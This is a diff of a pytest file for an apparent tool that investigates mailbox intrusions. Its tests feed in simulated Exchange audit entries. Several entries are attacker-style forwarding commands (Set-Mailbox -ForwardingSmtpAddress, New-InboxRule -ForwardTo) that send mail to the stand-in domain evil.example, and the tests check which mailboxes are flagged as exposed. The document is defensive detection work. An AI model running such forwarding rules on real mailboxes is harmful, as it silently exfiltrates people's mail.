@@ -168,13 +168,46 @@ def test_mail_sent_on_in_an_intruders_session_is_his_and_what_owners_set_is_thei
     assert {name for name, grade in grades.items() if grade is Grade.DOWNLOADED} == {STOLEN[0]}
 
 
-@pytest.mark.parametrize(("his", "exposed"), [(2, {PEOPLE[9]}), (1, set())])
-def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, exposed: set[str], tmp_path: Path) -> None:
+def _rule(person: str, at: str, goal: str, *, caller: str = "", cmdlet: str = "New-InboxRule") -> Ran:
+    told = f'-Mailbox "{person}" -Name "." -ForwardTo "{goal}"'
+    return at, cmdlet, told, f"gov/Users/{caller or person}"
+
+
+@pytest.mark.parametrize(
+    ("his", "day", "exposed"),
+    [
+        (2, 25, {PEOPLE[9]}),
+        (1, 25, set()),
+        # somebody of the house sent mail there before he came
+        (2, 9, set()),
+    ],
+)
+def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, day: int, exposed: set[str], tmp_path: Path) -> None:
     told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
     ran = [(_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
-    rule = f'-Mailbox "{PEOPLE[9]}" -Name "." -ForwardTo "X@evil.example"'
-    case = _office(tmp_path, _readers(range(20, 44, 3)), [*ran, (_at(9, 15), "New-InboxRule", rule, "gov/Users/adm")])
-    assert {one.mailbox for one in case.exposed} == {*STOLEN, *exposed}
+    ran.append(_rule(PEOPLE[9], _at(day, 15), "X@evil.example", caller="adm"))
+    # that he tries the address as a user makes it none of the house's
+    tried = visits("x@evil.example", f"{NETWORK}.14", FOREIGN, [20], hour=3, status=401)
+    case = _office(tmp_path, _readers(range(20, 44, 3)) + tried, ran)
+    assert {one.mailbox for one in case.exposed if one.grade in EXPOSED} == {*STOLEN, *exposed}
+
+
+@pytest.mark.parametrize(
+    "goal", ["archive@gov.example", '"Archive" [SMTP:Archive@lists.gov.example]', "gov.example/Users/boss", PEOPLE[23]]
+)
+def test_what_goes_within_the_house_draws_nobody_in(goal: str, tmp_path: Path) -> None:
+    ran = [_rule(one, _at(20, 3, 60), goal) for one in STOLEN[:2]]
+    ran += [_rule(one, _at(25, 10), goal) for one in PEOPLE[10:20]]
+    case = _office(tmp_path, _readers(range(20, 44, 3)), ran)
+    assert {one.mailbox for one in case.exposed} == set(STOLEN)
+
+
+def test_a_rule_and_its_change_are_of_one_mailbox_and_draw_nobody_in(tmp_path: Path) -> None:
+    owner, goal = STOLEN[0], "desk@service.example"
+    ran = [_rule(owner, _at(20, 3, 60), goal), _rule(owner, _at(20, 3, 240), goal, cmdlet="Set-InboxRule")]
+    ran += [_rule(one, _at(25, 10), goal) for one in PEOPLE[10:20]]
+    case = _office(tmp_path, _readers(range(20, 44, 3)), ran)
+    assert {one.mailbox for one in case.exposed} == set(STOLEN)
 
 
 @pytest.mark.parametrize(("each", "intrusions"), [(2, 1), (1, 2)])
@@ -199,8 +232,40 @@ def test_two_intrusions_that_send_mail_on_to_one_address_are_one(each: int, intr
     if intrusions == 1:
         (held,) = case.held
         assert len(held.clients) == 2
-        assert any("send mail on to smtp:x@evil.example" in one for one in held.links)
+        assert any("send mail on to x@evil.example" in one for one in held.links)
         assert len(held.takings) == len({one.grounds for one in held.takings}) == 2 * each
+
+
+_SHARED = PEOPLE[20]
+
+
+@pytest.mark.parametrize(
+    "ran",
+    [
+        pytest.param([_rule(one, _at(20, 3, 60), "archive@gov.example") for one in (*PEOPLE[:2], *PEOPLE[10:12])],
+                     id="within the house"),
+        pytest.param([_rule(one, _at(20, 3, 60 * place), "desk@service.example", cmdlet=cmdlet)
+                      for one in (PEOPLE[0], PEOPLE[10])
+                      for place, cmdlet in enumerate(("New-InboxRule", "Set-InboxRule"), 1)],
+                     id="one mailbox each, rule and change"),
+        pytest.param([_rule(one, _at(20, 3, 60), "desk@service.example", caller=_SHARED) for one in PEOPLE[21:23]],
+                     id="the same acts tied to both"),
+        pytest.param([_rule(PEOPLE[22], _at(9, 10), "desk@service.example"),
+                      *(_rule(one, _at(20, 3, 60), "desk@service.example") for one in (*PEOPLE[:2], *PEOPLE[10:12]))],
+                     id="the house sent mail there before"),
+    ],
+)  # fmt: skip
+def test_what_does_not_tell_of_one_hand_makes_no_two_intrusions_one(ran: Sequence[Ran], tmp_path: Path) -> None:
+    groups = {NETWORK: (FOREIGN, (*PEOPLE[:4], _SHARED)), "100.99.7": ("Other/3", (*PEOPLE[10:14], _SHARED))}
+    rows = [
+        row
+        for network, (tool, people) in groups.items()
+        for one in people
+        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
+    ]
+    case = _office(tmp_path, rows, ran)
+    assert [len(one.clients) for one in case.held] == [1, 1]
+    assert all(one.takings for one in case.held)
 
 
 @pytest.mark.parametrize(
